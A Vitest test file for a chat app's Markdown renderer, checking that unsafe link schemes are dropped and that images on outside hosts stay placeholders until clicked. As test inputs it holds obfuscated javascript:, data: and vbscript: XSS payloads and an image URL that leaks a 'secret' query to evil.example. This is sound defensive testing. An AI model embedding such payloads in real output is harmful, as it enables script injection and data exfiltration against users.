// @vitest-environment jsdom
import { cleanup, fireEvent, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '../../src/ui/markdown/Markdown';
import { safeHref, safeImageSrc } from '../../src/ui/markdown/safe-url';

afterEach(cleanup);

const links = (container: HTMLElement) => [...container.querySelectorAll('a')];

describe('links in answers', () => {
  it('keeps http, https, mailto, tel, relative and #anchor links as anchors', () => {
    const { container } = render(
      <Markdown text="[a](https://x.org) [b](http://x.org) [c](mailto:me@x.org) [d](tel:+123) [e](/chat/1) [f](#top) [g](docs/page?q=a:b)" />,
    );
    expect(links(container).map((a) => a.getAttribute('href'))).toEqual([
      'https://x.org',
      'http://x.org',
      'mailto:me@x.org',
      'tel:+123',
      '/chat/1',
      '#top',
      'docs/page?q=a:b',
    ]);
  });

  it('opens only external links in a new tab, without opener or referrer', () => {
    const { container } = render(<Markdown text="[out](https://x.org) [in](/chat/1) <https://auto.org>" />);
    const [out, inside, auto] = links(container);
    expect(out.getAttribute('target')).toBe('_blank');
    expect(out.getAttribute('rel')).toBe('noopener noreferrer');
    expect(auto.getAttribute('target')).toBe('_blank');
    expect(inside.hasAttribute('target')).toBe(false);
  });

  it('renders javascript:, data: and vbscript: links as plain text without an href', () => {
    const { container } = render(
      <Markdown
        text={[
          '[one](javascript:alert(1))',
          '[two](data:text/html,<b>hi</b>)',
          '[three](vbscript:msgbox)',
          '[four](JaVaScRiPt:alert(1))',
          '[five](java&#x09;script:alert(1))',
          '[six](JaVa%0ascript:alert(1))',
          '<javascript:alert(1)>',
        ].join(' ')}
      />,
    );
    expect(links(container)).toHaveLength(0);
    expect(container.querySelector('[href]')).toBeNull();
    for (const label of ['one', 'two', 'three', 'four', 'five', 'six']) {
      expect(container.textContent).toContain(label);
    }
  });

  it('shows only http(s) images; other sources leave their alt text', () => {
    const own = `${window.location.origin}/api/v1/creation/a.png`;
    const { container } = render(
      <Markdown
        text={`![ok](${own}) ![inline](data:image/png;base64,AAAA) ![local](/api/secret.png) ![js](javascript:alert(1))`}
      />,
    );
    const images = [...container.querySelectorAll('img')];
    expect(images.map((img) => img.getAttribute('src'))).toEqual([own]);
    expect(container.textContent).toContain('inline');
    expect(container.textContent).toContain('local');
  });

  it('a picture on another host is a placeholder naming the host until the reader loads it', () => {
    const { container, getByTestId } = render(
      <Markdown text="![leak](https://evil.example/p.png?q=secret)" />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(getByTestId('outside-image').textContent).toContain('evil.example');
    fireEvent.click(getByTestId('load-outside-image'));
    expect(container.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/p.png?q=secret');
  });

  it('judges hidden schemes the way a browser would read them', () => {
    expect(safeHref('java\tscript:alert(1)')).toBeNull();
    expect(safeHref(' javascript:alert(1)')).toBeNull();
    expect(safeHref('\u200bjavascript:alert(1)')).toBeNull();
    expect(safeHref('HTTPS://example.com')).toBe('HTTPS://example.com');
    expect(safeHref('./a:b')).toBe('./a:b');
    expect(safeImageSrc('//cdn.example/a.png')).toBeNull();
  });
});
